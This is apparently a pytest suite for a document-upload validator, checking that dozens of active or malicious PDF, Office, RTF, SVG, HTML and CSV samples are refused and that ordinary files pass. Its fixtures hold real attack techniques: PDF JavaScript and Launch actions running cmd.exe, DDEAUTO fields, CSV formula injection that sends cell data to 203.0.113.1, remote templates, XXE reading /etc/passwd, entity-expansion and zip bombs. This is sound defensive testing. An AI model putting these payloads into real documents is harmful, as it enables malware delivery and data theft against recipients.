"""Documents that run, fetch or send something as soon as they are opened: every one is refused, and told why."""

import gzip
import io
from collections.abc import Callable
from io import BytesIO

import pytest
import xlsxwriter
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String

from foundation.errors import Invalid
from foundation.files.store import store_file
from tests.factories.documents import (
    WORD,
    action,
    annotation,
    field,
    javascript,
    linked,
    office,
    old_document,
    ole,
    opening,
    pdf,
    relation,
)
from tests.factories.files import picture, zip_bomb

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("object_store")]

PROGRAM = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
RTF = b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
BOOK = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
SLIDES = '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
EVIL = "http://203.0.113.1/x.dotm"


def _named(name: str, value: Callable[[Pdf], object]) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        names = Dictionary(Names=Array([String("x"), document.make_indirect(value(document))]))
        document.Root.Names = Dictionary({f"/{name}": names})

    return change


def _file_in(document: Pdf) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=document.make_stream(PROGRAM)))


def _form(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _of_page(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=javascript())


def _of_document(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=javascript())


def _of_field(document: Pdf) -> None:
    annotation(document, Subtype=Name.Widget, FT=Name.Tx, T=String("x"), AA=Dictionary(K=javascript()))
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots)


def _next(document: Pdf) -> None:
    document.Root.OpenAction = action("GoTo", D=Array([]), Next=Array([javascript()]))


def _outside(document: Pdf) -> None:
    stream = document.make_stream(b"")
    stream.stream_dict.F = String("//203.0.113.1/x")
    document.Root.Thing = stream


def _escaped() -> bytes:
    """Its name written in other signs, in a document that only a repair can read."""
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>"
        b"\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"
    )


def _older() -> bytes:
    """What a later part of the file says is no longer there, and some readers find all the same."""
    return pdf(opening(lambda _: javascript()), object_stream_mode=ObjectStreamMode.disable) + pdf()


def _sheet(formula: str) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write_formula("A1", formula)
    return out.getvalue()


def _inside(content: bytes, name: str = "word/embeddings/x.docx") -> bytes:
    return office(parts={name: content})


def _word(**streams: bytes) -> bytes:
    return old_document(**streams)


def _deep(depth: int) -> bytes:
    content = office()
    for _ in range(depth):
        content = _inside(content)
    return content


def _lying_bomb() -> bytes:
    """600 MB of zeros, and a table of contents that says ten bytes."""
    whole = bytearray(zip_bomb().getvalue())
    real = (600_000_000).to_bytes(4, "little")
    return bytes(whole.replace(real, (10).to_bytes(4, "little")))


def _locked() -> bytes:
    """As if it had a password: the mark alone."""
    whole = bytearray(office(parts={"word/x.xml": "<a/>"}))
    place = whole.rfind(b"PK\x01\x02")
    whole[place + 8] |= 1
    return bytes(whole)


X_SHEET = "xl/workbook.xml"
PPT = "ppt/presentation.xml"
AES = Encryption(owner="", user="", R=6)
PDFS: dict[str, Callable[[], bytes]] = {
    "script at opening": lambda: pdf(opening(lambda _: javascript())),
    "script at opening, an object of its own": lambda: pdf(
        opening(lambda document: document.make_indirect(javascript()))
    ),
    "script in an object stream": lambda: pdf(
        opening(lambda document: document.make_indirect(javascript())), object_stream_mode=ObjectStreamMode.generate
    ),
    "script in a stream": lambda: pdf(
        opening(lambda document: action("JavaScript", JS=document.make_stream(b"app.alert(1)")))
    ),
    "script among the names": lambda: pdf(_named("JavaScript", lambda _: javascript())),
    "script of a page": lambda: pdf(_of_page),
    "script of the document": lambda: pdf(_of_document),
    "script of a field": lambda: pdf(_of_field),
    "script of a note": lambda: pdf(lambda document: annotation(document, Subtype=Name.Link, A=javascript())),
    "script after another action": lambda: pdf(_next),
    "script of a rendition": lambda: pdf(opening(lambda _: action("Rendition", JS=String("app.alert(1)")))),
    "script under an encryption without password": lambda: pdf(opening(lambda _: javascript()), encryption=AES),
    "script under an encryption, in an object stream": lambda: pdf(
        opening(lambda document: document.make_indirect(javascript())),
        encryption=AES,
        object_stream_mode=ObjectStreamMode.generate,
    ),
    "script in other signs": _escaped,
    "script in an older part of the file": _older,
    "a password": lambda: pdf(encryption=Encryption(owner="x", user="x", R=6)),
    "program to be started": lambda: pdf(opening(lambda _: action("Launch", F=String("cmd.exe")))),
    "program to be started on Windows": lambda: pdf(
        opening(lambda _: action("Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))
    ),
    "program inside": lambda: pdf(_named("EmbeddedFiles", _file_in)),
    "program at a page": lambda: pdf(
        lambda document: annotation(document, Subtype=Name.FileAttachment, FS=_file_in(document))
    ),
    "program beside the names": lambda: pdf(
        lambda document: setattr(document.Root, "AF", Array([document.make_indirect(_file_in(document))]))
    ),
    "rich media": lambda: pdf(
        lambda document: annotation(document, Subtype=Name.RichMedia, RichMediaContent=Dictionary())
    ),
    "a film": lambda: pdf(lambda document: annotation(document, Subtype=Name.Movie, Movie=Dictionary())),
    "something in three dimensions": lambda: pdf(lambda document: annotation(document, Subtype=Name("/3D"))),
    "a form of XFA": lambda: pdf(_form),
    "a form that sends itself": lambda: pdf(
        opening(lambda _: action("SubmitForm", F=String("http://203.0.113.1/"), Flags=4))
    ),
    "a form that fetches": lambda: pdf(opening(lambda _: action("ImportData", F=String("x.fdf")))),
    "another file to be opened": lambda: pdf(opening(lambda _: action("GoToR", F=String("\\\\203.0.113.1\\x.pdf")))),
    "a file inside to be opened": lambda: pdf(opening(lambda _: action("GoToE", T=Dictionary()))),
    "address of a file": lambda: pdf(linked("file:///C:/Windows/System32/calc.exe")),
    "address that runs": lambda: pdf(linked("javascript:alert(1)")),
    "address of a share": lambda: pdf(linked("\\\\203.0.113.1\\share")),
    "address of a program": lambda: pdf(linked("ms-msdt:/id PCWDiagnostic")),
    "content that lies elsewhere": lambda: pdf(_outside),
    "a page behind it": lambda: pdf() + HTML,
    "an archive behind it": lambda: pdf() + office(),
    "half a document": lambda: b"%PDF-1.7\n" + b"\xff" * 300,
}  # fmt: skip
OLES: dict[str, Callable[[], bytes]] = {
    "macros of Word": lambda: _word(Macros__VBA__dir=b"x", Macros__VBA___VBA_PROJECT=b"\xcc\x61", Macros__PROJECT=b"x"),
    "macros in another folder": lambda: _word(Other__VBA__dir=b"x"),
    "objects": lambda: _word(ObjectPool___1__x=b"x"),
    "a program packed": lambda: ole({"WordDocument": b"x", "\x01Ole10Native": PROGRAM}),
    "an equation": lambda: ole({"WordDocument": b"x", "Equation Native": b"x"}),
    "DDE": lambda: ole({"WordDocument": b'\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\x14\x15'}),
    "DDE in two bytes a letter": lambda: ole({"WordDocument": "\x13 DDE cmd /c\x14".encode("utf-16-le")}),
    "a template from elsewhere": lambda: _word(x=EVIL.encode("utf-16-le")),
    "a program in a stream": lambda: _word(Data=PROGRAM),
    "a password": lambda: ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
    "nothing that could be opened": lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600,
}  # fmt: skip
SHEETS: dict[str, Callable[[], bytes]] = {
    "macros of Excel": lambda: ole({"Workbook": b"\x09\x08", "_VBA_PROJECT_CUR/VBA/dir": b"x"}),
    "macros of Excel 4": lambda: ole({"Workbook": b"\x85\0\x0e\0" + b"\0" * 4 + b"\x01\x01\x06\0Macro1"}),
}  # fmt: skip
WORDS: dict[str, Callable[[], bytes]] = {
    "macros": lambda: office(parts={"word/vbaProject.bin": ole({"VBA/dir": b"x"})}),
    "macros under another name": lambda: office(parts={"word/media/image1.png": ole({"VBA/dir": b"x"})}),
    "macros by what it says of itself": lambda: office(
        types=(
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        )
    ),
    "a template from elsewhere": lambda: office(relations=relation("attachedTemplate", EVIL)),
    "a template from a share": lambda: office(relations=relation("attachedTemplate", "\\\\203.0.113.1\\x.dotm")),
    "a template in the settings": lambda: office(
        parts={
            "word/_rels/settings.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f"{relation('attachedTemplate', EVIL)}</Relationships>"
            )
        }
    ),
    "an object from elsewhere": lambda: office(relations=relation("oleObject", "mhtml:http://203.0.113.1/x!x")),
    "an object inside": lambda: office(parts={"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": PROGRAM})}),
    "a picture from elsewhere": lambda: office(relations=relation("image", "http://203.0.113.1/x.png")),
    "a frame from elsewhere": lambda: office(relations=relation("frame", "http://203.0.113.1/")),
    "a document from elsewhere": lambda: office(relations=relation("subDocument", "http://203.0.113.1/x.docx")),
    "a link to a program": lambda: office(relations=relation("hyperlink", "file:///C:/Windows/System32/calc.exe")),
    "a link that runs": lambda: office(relations=relation("hyperlink", "javascript:alert(1)")),
    "a link to a share": lambda: office(relations=relation("hyperlink", "\\\\203.0.113.1\\x")),
    "a page inside": lambda: office(relations=relation("aFChunk", "x.html", is_outside=False)),
    "a control": lambda: office(parts={"word/activeX/activeX1.xml": "<a/>"}),
    "DDE": lambda: office(content=field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")),
    "DDE cut into pieces": lambda: office(content=field(" D", "DE", "AUTO cmd ")),
    "DDE in a simple field": lambda: office(
        content=f'<w:document xmlns:w="{WORD}"><w:p><w:fldSimple w:instr=" DDE cmd "/></w:p></w:document>'
    ),
    "DDE in numbers": lambda: office(content=field(" QUOTE 68 68 69 ")),
    "a text from elsewhere": lambda: office(content=field(' INCLUDETEXT "http://203.0.113.1/x" ')),
    "DDE in a footer": lambda: office(parts={"word/footer1.xml": field(" DDEAUTO cmd ")}),
    "a program inside": lambda: office(parts={"word/media/image1.png": PROGRAM}),
    "a program by its name": lambda: office(parts={"word/x.js": b"x"}),
    "a document of rich text inside": lambda: office(parts={"word/x.txt": RTF}),
    "entities": lambda: office(content=XXE),
    "entities in another part": lambda: office(parts={"docProps/core.xml": XXE}),
    "entities in two bytes a letter": lambda: office(
        parts={"docProps/core.xml": XXE.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")}
    ),
    "entities by the hundred million": lambda: office(
        content="<!DOCTYPE a [<!ENTITY b 'c'>"
        + "".join(f"<!ENTITY b{n} '{'&b;' * 10}'>" for n in range(9))
        + "]><a>&b8;</a>"
    ),
    "a document with macros inside": lambda: _inside(office(parts={"word/vbaProject.bin": b"x"})),
    "documents in documents": lambda: _deep(5),
    "a bomb": lambda: zip_bomb().getvalue(),
    "a bomb that lies": _lying_bomb,
    "a password": _locked,
    "XML that is broken": lambda: office(content="<a><b></a>"),
}  # fmt: skip
BOOKS: dict[str, Callable[[], bytes]] = {
    "macros": lambda: office(X_SHEET, content=BOOK, parts={"xl/vbaProject.bin": b"x"}),
    "macros of Excel 4": lambda: office(X_SHEET, content=BOOK, parts={"xl/macrosheets/sheet1.xml": "<a/>"}),
    "links to other workbooks": lambda: office(
        X_SHEET, content=BOOK, parts={"xl/externalLinks/externalLink1.xml": "<a/>"}
    ),
    "DDE": lambda: office(
        X_SHEET,
        content=BOOK,
        parts={"xl/x.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'},
    ),
    "connections": lambda: office(X_SHEET, content=BOOK, parts={"xl/connections.xml": "<a/>"}),
    "entities in the texts": lambda: office(X_SHEET, content=BOOK, parts={"xl/sharedStrings.xml": XXE}),
    "entities in a sheet, in two bytes a letter": lambda: office(
        X_SHEET, content=BOOK, parts={"xl/worksheets/sheet1.xml": XXE.encode("utf-16")}
    ),
    "a formula that fetches": lambda: _sheet('=WEBSERVICE("http://203.0.113.1/")'),
    "a formula that starts a program": lambda: _sheet("=cmd|'/c calc'!A0"),
}  # fmt: skip
SHOWS: dict[str, Callable[[], bytes]] = {
    "macros": lambda: office(PPT, content=SLIDES, parts={"ppt/vbaProject.bin": b"x"}),
    "a click that starts a program": lambda: office(
        PPT, content=SLIDES, parts={"ppt/slides/slide1.xml": '<a><hlinkClick action="ppaction://program"/></a>'}
    ),
    "an object from elsewhere": lambda: office(PPT, content=SLIDES, relations=relation("oleObject", "script:http://203.0.113.1/")),
    "a film from elsewhere": lambda: office(PPT, content=SLIDES, relations=relation("video", "http://203.0.113.1/x.mp4")),
}  # fmt: skip
TEXTS: dict[str, Callable[[], bytes]] = {
    "a page": lambda: HTML,
    "a drawing": lambda: SVG,
    "rich text with an object": lambda: RTF,
    "a message with a page": lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML,
    "a way to somewhere": lambda: b"[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n",
    "a program": lambda: b"<?php system('x'); ?>",
}  # fmt: skip
TABLES: dict[str, Callable[[], bytes]] = {
    "DDE": lambda: b"a,b\n=cmd|'/c calc'!A0,1\n",
    "DDE behind a sign": lambda: b"a,b\n1,\"+cmd|'/c calc'!A0\"\n",
    "a link that sends": lambda: b'a\n"=HYPERLINK(""http://203.0.113.1/?""&A1)"\n',
    "a formula that fetches": lambda: b'a\n=WEBSERVICE("http://203.0.113.1/")\n',
}  # fmt: skip
OTHERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "rich text": ("通知.rtf", lambda: RTF),
    "rich text called a document": ("通知.doc", lambda: RTF),
    "page called a document": ("通知.doc", lambda: HTML),
    "page called a PDF": ("通知.pdf", lambda: HTML),
    "drawing called a picture": ("图.png", lambda: SVG),
    "packed drawing": ("图.png", lambda: gzip.compress(SVG)),
    "program called a PDF": ("通知.pdf", lambda: PROGRAM),
    "PDF behind a page": ("通知.pdf", lambda: HTML + pdf()),
    "document called a PDF": ("通知.pdf", office),
    "document with macros by its name": ("通知.docm", office),
    "template": ("通知.dotx", office),
}  # fmt: skip
KINDS: dict[str, dict[str, Callable[[], bytes]]] = {
    "pdf": PDFS,
    "doc": OLES,
    "xls": SHEETS,
    "docx": WORDS,
    "xlsx": BOOKS,
    "pptx": SHOWS,
    "txt": TEXTS,
    "csv": TABLES,
}
SAMPLES = [
    *((f"{ending}: {what}", f"通知.{ending}", make) for ending, made in KINDS.items() for what, make in made.items()),
    *((what, name, make) for what, (name, make) in OTHERS.items()),
]


def send(name: str, content: bytes) -> str:
    return store_file(folder="tests/active", name=name, content=BytesIO(content)).media_type


class TestActiveDocument:
    def test_is_one_of_sixty_five(self) -> None:
        assert len({what for what, _, _ in SAMPLES}) >= 65

    @pytest.mark.parametrize(("name", "make"), [one[1:] for one in SAMPLES], ids=[one[0] for one in SAMPLES])
    def test_is_refused_with_the_reason(self, name: str, make: Callable[[], bytes]) -> None:
        with pytest.raises(Invalid) as refused:
            send(name, make())
        assert [fault.where for fault in refused.value.faults] == ["file"]

    @pytest.mark.parametrize(
        ("name", "make", "words"),
        [
            ("通知.pdf", PDFS["script at opening"], "JavaScript 脚本"),
            ("通知.pdf", PDFS["program to be started"], "启动程序的动作"),
            ("通知.pdf", PDFS["program inside"], "内嵌文件"),
            ("通知.pdf", PDFS["a password"], "取消密码"),
            ("通知.doc", OLES["macros of Word"], "宏（VBA）"),
            ("通知.docx", WORDS["a template from elsewhere"], "远程模板"),
            ("通知.docx", WORDS["entities"], "XXE"),
            ("名单.xlsx", BOOKS["entities in the texts"], "XXE"),
        ],
    )
    def test_is_told_what_was_found(self, name: str, make: Callable[[], bytes], words: str) -> None:
        with pytest.raises(Invalid, match=words):
            send(name, make())


def _with_chart() -> bytes:
    """A workbook inside, as a chart has it."""
    return _inside(_sheet("=1+1"), "word/embeddings/Microsoft_Excel_Sheet.xlsx")


def _bookmark(document: Pdf) -> None:
    document.Root.OpenAction = action("GoTo", D=Array([document.pages[0].obj, Name.Fit]))
    annotation(document, Subtype=Name.Widget, FT=Name.Tx, T=String("姓名"))
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots)


HONEST: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a PDF": ("通知.pdf", pdf),
    "a PDF that leads to a page": ("通知.pdf", lambda: pdf(linked("https://www.gov.cn/"))),
    "a PDF with a form, open at a page": ("通知.pdf", lambda: pdf(_bookmark)),
    "a PDF that may not be changed": (
        "通知.pdf",
        lambda: pdf(encryption=AES, object_stream_mode=ObjectStreamMode.generate),
    ),
    "an old document": ("通知.doc", old_document),
    "an old workbook": ("名单.xls", lambda: ole({"Workbook": b"\x85\0\x0e\0" + b"\0" * 6 + b"\x06\0Sheet1"})),
    "a document": ("通知.docx", office),
    "a document that leads to a page": (
        "通知.docx",
        lambda: office(relations=relation("hyperlink", "https://www.gov.cn/a?b=c")),
    ),
    "a document with fields": (
        "通知.docx",
        lambda: office(content=field(" PAGE "), parts={"word/footer1.xml": field(' TOC \\o "1-3" ')}),
    ),
    "a document with a chart": ("通知.docx", _with_chart),
    "a document with a picture": (
        "通知.docx",
        lambda: office(parts={"word/media/image1.jpg": picture().getvalue()}),
    ),
    "a workbook": ("名单.xlsx", lambda: _sheet("=SUM(B1:B9)")),
    "a table": (
        "名单.csv",
        lambda: "\n".join(map(",".join, (["姓名", "差额"], ["+86 138 0000 0000", "-5"], ["李四|北", "=1+1"]))).encode(),
    ),
    "a text": ("说明.txt", lambda: "办理说明：<请携带身份证>\n- 第一步\n".encode("gb18030")),
}


class TestHonestDocument:
    @pytest.mark.parametrize(("name", "make"), HONEST.values(), ids=list(HONEST))
    def test_is_taken(self, name: str, make: Callable[[], bytes]) -> None:
        assert send(name, make())
